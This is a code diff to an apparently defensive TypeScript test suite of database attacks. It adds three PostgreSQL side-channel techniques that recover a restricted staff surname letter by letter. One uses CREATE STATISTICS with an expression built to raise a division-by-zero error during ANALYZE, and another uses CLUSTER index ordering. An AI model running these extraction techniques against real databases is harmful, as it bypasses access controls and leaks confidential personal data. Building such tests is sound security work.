@@ -1,4 +1,4 @@
-/** Documents of odd shapes, and operators and aggregates that are not what their names say. */
+/** Documents of odd shapes, and operators and aggregates that are not what their names say, and DDL on copies. */
 import type { Attack } from '../attack.ts';
 
 const CARDS = 'FROM rejestr.kartoteka';
@@ -147,4 +147,62 @@ const operators: readonly Attack[] = [
   },
 ];
 
-export const structures: readonly Attack[] = [...documents, ...operators];
+/** What DDL finds out of a copy. */
+const definitions: readonly Attack[] = [
+  ...[true, false].map(
+    (isEarly): Attack => ({
+      id: `structure.statistics-${isEarly ? 'before' : 'after'}`,
+      infers: true,
+      writes: true,
+      run: async (attacker) => {
+        const wire = await attacker.connect();
+        const copy = `SELECT nazwisko ${STAFF} WHERE id = 5`;
+        let known = '';
+        for (let at = 1; at <= 11; at++) {
+          let found = '';
+          for (const letter of LETTERS) {
+            await wire.query(
+              isEarly ? 'CREATE TEMP TABLE atk_s (nazwisko text)' : `CREATE TEMP TABLE atk_s AS ${copy}`,
+            );
+            await wire.query(
+              `CREATE STATISTICS atk_st ON (1 / (ascii(substr(nazwisko, ${at}, 1)) - ascii('${letter}'))) FROM atk_s`,
+            );
+            if (isEarly) await wire.query(`INSERT INTO atk_s ${copy}`);
+            const { errors } = await wire.query('ANALYZE atk_s');
+            if (errors.length > 0) found += letter;
+            await wire.query('DROP TABLE atk_s');
+            if (found !== '') break;
+          }
+          if (found === '') break;
+          known += found;
+        }
+        attacker.found.push(known);
+      },
+    }),
+  ),
+  {
+    id: 'structure.cluster',
+    infers: true,
+    writes: true,
+    run: async (attacker) => {
+      const wire = await attacker.connect();
+      await wire.query(`CREATE TEMP TABLE atk_o AS SELECT id, nazwisko ${STAFF} WHERE id = 5`);
+      await wire.query('CREATE INDEX atk_ox ON atk_o (nazwisko COLLATE "C")');
+      let known = '';
+      for (let at = 0; at < 11; at++) {
+        const guesses = [...LETTERS].map((letter, i) => `(${100 * (at + 1) + i}, '${known}${letter}')`);
+        await wire.query(`INSERT INTO atk_o VALUES ${guesses.join(', ')}`);
+        await wire.query('CLUSTER atk_o USING atk_ox');
+        const { rows } = await wire.query('SELECT id FROM atk_o');
+        const ids = rows.map(([id]) => Number(id));
+        const before = ids.slice(0, ids.indexOf(5)).findLast((id) => id >= 100 * (at + 1));
+        const letter = before === undefined ? undefined : LETTERS[before - 100 * (at + 1)];
+        if (letter === undefined) break;
+        known += letter;
+      }
+      attacker.found.push(known);
+    },
+  },
+];
+
+export const structures: readonly Attack[] = [...documents, ...operators, ...definitions];
